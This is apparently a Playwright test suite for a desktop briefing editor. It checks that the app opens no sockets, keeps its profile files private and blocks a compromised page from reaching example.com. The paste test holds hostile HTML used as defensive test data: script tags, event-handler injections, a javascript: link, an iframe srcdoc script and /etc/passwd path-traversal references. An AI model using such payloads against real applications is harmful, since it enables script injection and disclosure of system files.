import { readdirSync, readFileSync, readlinkSync } from 'node:fs';
import { readdir, stat } from 'node:fs/promises';
import { join } from 'node:path';
import type { Page } from 'playwright/test';
import { expect, test } from './application.ts';
import { selectWords } from './select-words.ts';

const text = (window: Page) => window.getByRole('textbox', { name: 'Text of the briefing' });

/** The sockets of this process and of all below it, as the system lists them. */
function socketsBelow(root: number): string[] {
  const parents = new Map<number, number>();
  for (const name of readdirSync('/proc')) {
    if (!/^\d+$/.test(name)) continue;
    try {
      const status = readFileSync(`/proc/${name}/stat`, 'utf8');
      parents.set(Number(name), Number(status.slice(status.lastIndexOf(')') + 2).split(' ')[1]));
    } catch {
      // It ended meanwhile.
    }
  }
  const isBelow = (pid: number): boolean => pid === root || (parents.has(pid) && pid > 1 && isBelow(parents.get(pid) ?? 1));
  const found: string[] = [];
  for (const pid of [...parents.keys()].filter(isBelow)) {
    const inodes = new Set<string>();
    try {
      for (const descriptor of readdirSync(`/proc/${pid}/fd`)) {
        const target = readlinkSync(`/proc/${pid}/fd/${descriptor}`);
        const inode = /^socket:\[(\d+)\]$/.exec(target)?.[1];
        if (inode !== undefined) inodes.add(inode);
      }
      for (const kind of ['tcp', 'tcp6', 'udp', 'udp6', 'raw', 'raw6']) {
        for (const line of readFileSync(`/proc/${pid}/net/${kind}`, 'utf8').split('\n').slice(1)) {
          const fields = line.trim().split(/\s+/);
          if (inodes.has(fields[9] ?? '')) found.push(`${kind} ${fields[1]} to ${fields[2]} of ${readFileSync(`/proc/${pid}/comm`, 'utf8').trim()}`);
        }
      }
    } catch {
      // It ended meanwhile.
    }
  }
  return [...new Set(found)];
}

test('a whole job asks nobody for anything, opens no port and leaves only private files', async ({ application, shell }) => {
  const { window, profile } = application;
  await window.getByRole('button', { name: /^New briefing from China/ }).click();
  await text(window).locator('p').first().click();
  await window.keyboard.type('We welcome rail and road to the border.');
  await selectWords(window, 'rail and road');
  await window.keyboard.press('Control+Alt+m');
  await window.locator('[data-commitment=altai-logistics] input').check();
  await window.keyboard.press('Control+Enter');
  await window.keyboard.press('Control+Shift+d');
  await window.getByRole('button', { name: 'Choose a file…' }).click();
  await application.saveInDialog('note.docx');
  await expect(window.getByText(/^Exported “note.docx”/)).toBeVisible();
  await window.keyboard.press('F1');
  await window.keyboard.press('Escape');

  await test.step('no process of it has a socket of any network', () => {
    test.skip(process.platform !== 'linux', 'only Linux lists the sockets of a process as files');
    if (shell === 'chromium') expect(socketsBelow(process.pid)).toEqual([]);
  });
  await test.step('what is kept in the profile is for its owner alone', async () => {
    test.skip(process.platform === 'win32', 'Windows has other rights');
    const open: string[] = [];
    for (const entry of await readdir(profile, { recursive: true, withFileTypes: true })) {
      const { mode } = await stat(join(entry.parentPath, entry.name)).catch(() => ({ mode: 0 }));
      if ((mode & 0o077) !== 0) open.push(entry.name);
    }
    expect(open).toEqual([]);
  });
});

test.describe('a page that was taken over', () => {
  test.use({ asksOutside: true });

  test('can go nowhere, send nothing and open nothing', async ({ application }) => {
    const { window } = application;
    await window.getByRole('button', { name: /^New briefing from China/ }).click();
    await text(window).waitFor();
    const outside: string[] = [];
    window.context().on('requestfinished', (request) => {
      if (request.url().includes('example.com')) outside.push(request.url());
    });
    const tried = await window.evaluate(async () => {
      const attempt = async (name: string, work: () => unknown): Promise<string> => {
        try {
          const answer = await Promise.race([work(), new Promise((resolve) => setTimeout(resolve, 1_500, 'nothing'))]);
          return `${name}: ${answer === null || answer === 'nothing' ? 'refused' : 'allowed'}`;
        } catch {
          return `${name}: refused`;
        }
      };
      const loaded = (tag: 'img' | 'script' | 'iframe' | 'link') =>
        new Promise((resolve, reject) => {
          const element = document.createElement(tag);
          element.addEventListener('load', () => (tag === 'iframe' ? resolve('nothing') : resolve('loaded')));
          element.addEventListener('error', reject);
          if (element instanceof HTMLLinkElement) {
            element.rel = 'stylesheet';
            element.href = 'https://example.com/a.css';
          } else element.src = 'https://example.com/a';
          document.body.append(element);
        });
      return [
        await attempt('fetch', () => fetch('https://example.com/')),
        await attempt('beacon', () => (navigator.sendBeacon('https://example.com/', 'words') ? fetch('https://example.com/') : null)),
        await attempt('socket', () => new Promise((resolve, reject) => {
          const socket = new WebSocket('wss://example.com/');
          socket.addEventListener('open', resolve);
          socket.addEventListener('error', reject);
        })),
        await attempt('image', () => loaded('img')),
        await attempt('script', () => loaded('script')),
        await attempt('frame', () => loaded('iframe')),
        await attempt('style', () => loaded('link')),
        // oxlint-disable-next-line typescript/no-implied-eval
        await attempt('code from text', () => new Function('return 1')()),
        await attempt('worker from text', () => new Promise((resolve, reject) => {
          const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])));
          worker.addEventListener('message', resolve);
          worker.addEventListener('error', reject);
        })),
        await attempt('place', () => new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(resolve, reject))),
        await attempt('camera', () => navigator.mediaDevices.getUserMedia({ video: true })),
      ];
    });
    expect(tried.filter((line) => line.endsWith('allowed'))).toEqual([]);
    await window.evaluate(() => void globalThis.open('https://example.com/'));
    await window.evaluate(() => {
      const link = document.createElement('a');
      link.href = 'https://example.com/';
      document.body.append(link);
      link.click();
    });
    await window.waitForTimeout(500);
    expect(outside).toEqual([]);
    expect(window.url()).not.toContain('example.com');
  });

  test('reaches nobody by what is no request either: a call to another browser, a name looked up ahead', async ({ application, shell }) => {
    test.skip(process.platform !== 'linux', 'only Linux lists the sockets of a process as files');
    test.skip(shell === 'electron', 'the processes of Electron are not below this one');
    const { window } = application;
    await window.evaluate(() => {
      for (const rel of ['dns-prefetch', 'preconnect', 'prefetch']) {
        const link = document.createElement('link');
        link.rel = rel;
        link.href = 'https://example.com/';
        document.head.append(link);
      }
      const frame = document.body.appendChild(document.createElement('iframe'));
      const connections = [globalThis, frame.contentWindow as unknown as typeof globalThis].flatMap(({ RTCPeerConnection: Connection }) =>
        Connection === undefined ? [] : [new Connection({ iceServers: [{ urls: 'stun:127.0.0.1:3478' }] })],
      );
      for (const connection of connections) {
        connection.createDataChannel('words');
        void connection.createOffer().then((offer) => connection.setLocalDescription(offer));
      }
      Object.assign(window, { connections });
    });
    const found = new Map<string, number>();
    for (let turn = 0; turn < 20; turn += 1) {
      for (const socket of socketsBelow(process.pid)) found.set(socket, (found.get(socket) ?? 0) + 1);
      await window.waitForTimeout(100);
    }
    // A browser asks the system whether there is a way to IPv6 by a socket that finds none, sends nothing and is closed at once.
    const asksForWay = ([socket, turns]: [string, number]) => turns === 1 && /^udp6 0{32}:\S+ to 0{32}:0000 of chrom/.test(socket);
    expect([...found].filter((each) => !asksForWay(each)).map(([socket]) => socket)).toEqual([]);
  });
});

test('what is pasted brings no script, no picture from elsewhere and no request', async ({ application }) => {
  const { window } = application;
  await window.getByRole('button', { name: /^New briefing from China/ }).click();
  await text(window).locator('p').first().click();
  const requests: string[] = [];
  window.context().on('request', (request) => requests.push(request.url()));
  await window.evaluate(() => {
    const evil = `<p>Kept words</p><script>window.ran = 1</script><img src="https://example.com/a.png" onerror="window.ran = 2">
      <p onclick="window.ran = 3" style="background:url(https://example.com/b.png)">More words</p>
      <a href="javascript:window.ran = 4">A link</a><iframe srcdoc="<script>parent.ran = 5</script>"></iframe>
      <svg onload="window.ran = 6"><image href="https://example.com/c.png"/></svg>
      <figure data-media="../../../etc/passwd"><img src="file:///etc/passwd"></figure>`;
    const clipboardData = new DataTransfer();
    clipboardData.setData('text/html', evil);
    document.querySelector('.text')?.dispatchEvent(new ClipboardEvent('paste', { clipboardData, bubbles: true, cancelable: true }));
  });
  await expect(text(window)).toContainText('Kept words');
  await expect(text(window)).toContainText('More words');
  await window.waitForTimeout(500);
  expect(await window.evaluate(() => (window as unknown as { ran?: number }).ran)).toBeUndefined();
  expect(requests.filter((url) => /example\.com|^file:/.test(url))).toEqual([]);
  expect(await text(window).locator('script, iframe, a[href^="javascript:"], img[src^="http:"], img[src^="https://example"]').count()).toBe(0);
});
